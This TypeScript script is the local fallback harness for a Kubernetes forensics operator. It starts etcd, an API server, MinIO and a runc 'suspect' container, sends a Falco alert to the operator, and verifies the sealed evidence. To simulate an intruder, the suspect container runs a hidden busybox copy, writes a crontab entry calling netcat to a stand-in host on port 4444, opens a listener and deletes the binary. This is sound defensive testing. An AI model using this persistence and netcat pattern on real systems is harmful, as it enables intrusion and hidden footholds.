// `scripts/local.sh --inline`: the fallback when a real node cannot run here (not root, its
// components missing). Everything is still real and on this machine: etcd, kube-apiserver,
// kube-controller-manager, kwok, MinIO with Object Lock, a runc container the script makes itself
// playing the compromised workload, and Amber's operator collecting inline (it runs on the
// "node", which is this machine). A Falco event reaches the webhook as Falcosidekick posts it;
// the run ends when the evidence is sealed and `amber verify` has checked it.
import { CoreV1Api, CustomObjectsApi } from '@kubernetes/client-node';
import { spawn } from 'node:child_process';
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { API_VERSION, GROUP, VERSION } from '../src/api/common.js';
import { createLogger } from '../src/observability/logger.js';
import { OperatorConfig } from '../src/operator/config.js';
import { runOperator } from '../src/operator/operator.js';
import { installCrds } from '../test/testenv/crds.js';
import { postLikeFalcosidekick } from '../test/testenv/falcosidekick.js';
import { startCluster } from '../test/testenv/kube.js';
import { startMinio } from '../test/testenv/minio.js';
import { freePort } from '../test/testenv/ports.js';
import { OPERATOR_NAMESPACE, operatorKubeConfig } from '../test/testenv/rbac.js';
import { startContainer } from '../test/testenv/runc.js';
import { waitFor } from '../test/testenv/wait.js';
import { Workloads, type CaseView } from '../test/testenv/workload.js';

/**
 * Runs the amber CLI (`npx tsx src/cmd/amber.ts ...`) and resolves with its exit code. Never
 * spawnSync: the operator runs in this process, and a blocked event loop misses its timers (a
 * leader's lease renew, once: "lost leadership" after `local.sh --keep` under load).
 */
export function amberCli(args: string[], env: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const child = spawn('npx', ['tsx', 'src/cmd/amber.ts', ...args], {
      stdio: 'inherit',
      env: { ...process.env, ...env },
    });
    child.once('error', reject);
    child.once('exit', (code) => resolve(code ?? 1));
  });
}

export async function runInline(flags: { keep: boolean }): Promise<never> {
  const say = (msg: string) => console.log(`\n\u25b6 ${msg}`);
  const dir = mkdtempSync(join(tmpdir(), 'amber-local-'));

  say(
    'starting the local environment: etcd, kube-apiserver, kube-controller-manager, kwok, MinIO, a suspect container',
  );
  const [cluster, minio, suspect] = await Promise.all([
    startCluster({ controllerManager: true, kwok: true }),
    startMinio(),
    // What an intruder does: drop and run a binary, delete it, write below /etc, listen on a port.
    startContainer({
      command: [
        '/bin/sh',
        '-c',
        'cp /bin/busybox /tmp/.x && echo "* * * * * /tmp/.x nc 203.0.113.9 4444" > /etc/crontab && ' +
          '(/tmp/.x nc -l -p 4444 &) && sleep 1 && rm /tmp/.x && touch /ready && exec sleep 100000',
      ],
    }),
  ]);
  const cleanup = async () => {
    await Promise.allSettled([suspect.stop(), minio.stop(), cluster.stop()]);
  };
  process.once('SIGINT', () => void cleanup().then(() => process.exit(130)));

  try {
    await suspect.waitForFile('/ready');
    const admin = cluster.kubeConfig();
    await installCrds(admin);
    const w = new Workloads(admin);
    const core = admin.makeApiClient(CoreV1Api);
    const node = 'local-node';
    await core.createNode({ body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } } });
    await w.namespace('shop');
    await core.createNamespacedPod({
      namespace: 'shop',
      body: {
        metadata: { name: 'web-0', labels: { app: 'web' } },
        spec: { nodeName: node, containers: [{ name: 'web', image: 'shop/web:1.4' }] },
      },
    });
    // No kubelet runs here: write the status a kubelet would, naming the runc container.
    await core.patchNamespacedPodStatus(
      {
        namespace: 'shop',
        name: 'web-0',
        body: {
          status: {
            phase: 'Running',
            containerStatuses: [
              {
                name: 'web',
                image: 'shop/web:1.4',
                imageID: '',
                ready: true,
                restartCount: 0,
                containerID: `runc://${suspect.id}`,
                state: { running: { startedAt: new Date() } },
              },
            ],
          },
        },
      },
      (await import('@kubernetes/client-node')).setHeaderOptions(
        'Content-Type',
        'application/merge-patch+json',
      ),
    );

    // The operator runs as its ServiceAccount, with exactly the rights of deploy/rbac.yaml.
    const operatorKc = await operatorKubeConfig(cluster);
    const kubeconfig = join(dir, 'operator.kubeconfig');
    writeFileSync(kubeconfig, operatorKc.exportConfig());
    writeFileSync(join(dir, 'admin.kubeconfig'), readFileSync(cluster.kubeconfigPath));
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const publicKeyFile = join(dir, 'signing-key.pub.pem');
    writeFileSync(publicKeyFile, publicKey.export({ type: 'spki', format: 'pem' }));
    await core.createNamespacedSecret({
      namespace: OPERATOR_NAMESPACE,
      body: {
        metadata: { name: 'amber-signing-key' },
        stringData: { 'signing-key.pem': privateKey.export({ type: 'pkcs8', format: 'pem' }).toString() },
      },
    });
    const custom = admin.makeApiClient(CustomObjectsApi);
    await custom.createClusterCustomObject({
      group: GROUP,
      version: VERSION,
      plural: 'responsepolicies',
      body: {
        apiVersion: API_VERSION,
        kind: 'ResponsePolicy',
        metadata: { name: 'contain-shells' },
        spec: {
          match: { rules: ['Terminal shell in container', 'Drop and execute*'], minimumPriority: 'Notice' },
          limits: { maxOpenCases: 10, maxCordonedNodes: 1, maxCordonedNodesPercent: 100 },
          collection: {
            artifacts: ['processes', 'network', 'filesystemDiff', 'writableLayer', 'logs', 'orchestrator'],
          },
          evidence: {
            store: { type: 's3', bucket: minio.bucket, endpoint: minio.endpoint, prefix: 'amber/' },
            retention: { mode: 'GOVERNANCE', days: 1 },
          },
        },
      },
    });

    const token = randomBytes(24).toString('hex');
    const cfg = OperatorConfig.parse({
      kubeconfig,
      namespace: OPERATOR_NAMESPACE,
      metricsPort: await freePort(),
      intakePort: await freePort(),
      intakeToken: token,
      // One replica and nobody to hand over to: a lease could only make it exit when a starved
      // CPU delays a renew past its deadline (docs/adr/0012-real-node.md).
      leaderElection: false,
      collectionMode: 'inline',
      s3Bucket: minio.bucket,
      s3Endpoint: minio.endpoint,
      s3PathStyle: 'true',
    });
    const logger = createLogger({ component: 'operator' });
    logger.level = process.env.AMBER_LOG_LEVEL ?? 'warn';
    say(`starting amber operator (logs at level ${logger.level}; AMBER_LOG_LEVEL=info for more)`);
    const operator = await runOperator(cfg, logger, {
      // A fatal error stops the environment too, not only the operator.
      exit: (code) => void cleanup().then(() => process.exit(code)),
      collection: {
        mode: 'inline',
        namespace: OPERATOR_NAMESPACE,
        evidence: {
          bucket: minio.bucket,
          endpoint: minio.endpoint,
          forcePathStyle: true,
          credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
        },
        // This sandbox hides PID 1's namespaces from us; this process stands for the host.
        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: suspect.stateRoot } },
        // The suspect's layers live where this harness put them, not under containerd's roots.
        snapshotterRoots: suspect.layerRoots,
      },
    });

    say('Falco fires: a real event, posted to the webhook the way Falcosidekick does');
    const event = readFileSync(
      join(import.meta.dirname, '..', 'test', 'fixtures', 'falco', 'syscall-terminal-shell.json'),
      'utf8',
    )
      .replaceAll('"default"', '"shop"')
      .replaceAll('"alpine"', '"web-0"')
      .replaceAll('5892b41bcf46', suspect.id.slice(0, 12));
    const started = Date.now();
    const res = await postLikeFalcosidekick(operator.intake!.url, event, {
      Authorization: `Bearer ${token}`,
    });
    console.log(`  webhook answered ${res.status} ${res.body}`);
    const caseName = (JSON.parse(res.body) as { case?: string }).case;
    if (!caseName) throw new Error('the alert opened no case');

    const sealed = (await waitFor(
      `case ${caseName} sealed`,
      () => w.getCase(caseName),
      (c) => ['Sealed', 'Failed', 'Invalid'].includes(c.status?.phase ?? ''),
      120_000,
    )) as CaseView & {
      status: { manifest?: { uri: string; sha256: string }; artifacts?: unknown[] };
    };
    say(
      `case ${caseName}: ${sealed.status.phase} in ${((Date.now() - started) / 1000).toFixed(1)} s after the alert`,
    );
    for (const e of sealed.status.timeline ?? [])
      console.log(`  ${e.action.padEnd(20)} ${e.outcome.padEnd(9)} ${e.message ?? ''}`);
    for (const c of sealed.status.conditions ?? [])
      console.log(`  condition ${c.type}=${c.status} (${c.reason}) ${c.message}`);
    console.log(
      `  ${sealed.status.artifacts?.length ?? 0} artifacts; manifest ${sealed.status.manifest?.uri ?? '(none)'}`,
    );
    // The main job must show what the intruder wrote: a missing diff is a failure here, not a gap.
    const names = ((sealed.status.artifacts ?? []) as { name: string }[]).map((a) => a.name);
    for (const wanted of ['/filesystem/diff.json', '/filesystem/writable-layer.tar'])
      if (!names.some((n) => n.endsWith(wanted)))
        throw new Error(`${wanted.slice(1)} was not collected: see the container's report.json`);

    say(
      `amber verify ${sealed.status.manifest ? sealed.status.manifest.uri.replace(/manifest[^/]*$/, '') : ''}`,
    );
    const location = sealed.status.manifest?.uri.replace(/[^/]*$/, '') ?? '';
    const verify = await amberCli(
      ['verify', location, '--public-key', publicKeyFile, '--endpoint', minio.endpoint, '--path-style'],
      {
        AWS_ACCESS_KEY_ID: minio.accessKey,
        AWS_SECRET_ACCESS_KEY: minio.secretKey,
        AWS_REGION: minio.region,
      },
    );

    say('amber report: the case written up for an investigator (HTML and Markdown)');
    const reportBase = join(dir, `${caseName}-report`);
    const report = await amberCli(
      [
        'report',
        location,
        '--public-key',
        publicKeyFile,
        '--endpoint',
        minio.endpoint,
        '--path-style',
        '--out',
        reportBase,
      ],
      {
        AWS_ACCESS_KEY_ID: minio.accessKey,
        AWS_SECRET_ACCESS_KEY: minio.secretKey,
        AWS_REGION: minio.region,
      },
    );

    say('how to reach it');
    console.log(`  kubectl --kubeconfig ${join(dir, 'admin.kubeconfig')} get forensiccases`);
    console.log(`  intake:  POST ${operator.intake!.url}  (Authorization: Bearer ${token})`);
    console.log(`  metrics: ${operator.metricsUrl}/metrics`);
    console.log(`  MinIO:   ${minio.endpoint}  bucket ${minio.bucket}  (access key ${minio.accessKey})`);
    console.log(`  public key for amber verify: ${publicKeyFile}`);

    if (flags.keep) {
      say('running until Ctrl-C');
      await new Promise(() => {});
    }
    await operator.stop();
    await cleanup();
    process.exit(sealed.status.phase === 'Sealed' && verify === 0 && report === 0 ? 0 : 1);
  } catch (err) {
    console.error(err);
    await cleanup();
    process.exit(1);
  }
}
